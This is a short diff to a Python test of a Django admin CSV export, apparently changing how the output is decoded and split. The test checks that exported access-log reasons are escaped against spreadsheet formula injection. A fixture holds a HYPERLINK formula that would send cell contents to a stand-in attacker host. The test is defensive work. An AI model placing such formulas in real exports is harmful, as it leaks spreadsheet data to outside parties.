@@ -118,6 +118,6 @@ def test_the_csv_export_keeps_typed_text_from_becoming_a_formula(rf) -> None:  #
     AccessLogEntryFactory(reason='=HYPERLINK("http://evil.example/?"&A1,"Klicka")')
     AccessLogEntryFactory(reason="Flyttat hit från Brunflo")
     response = AccessLogAdmin(AccessLogEntry, site).export_csv(rf.get("/"), AccessLogEntry.objects.all())
-    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
     reasons = sorted(row[5] for row in rows[1:])
     assert reasons == ['\'=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "Flyttat hit från Brunflo"]
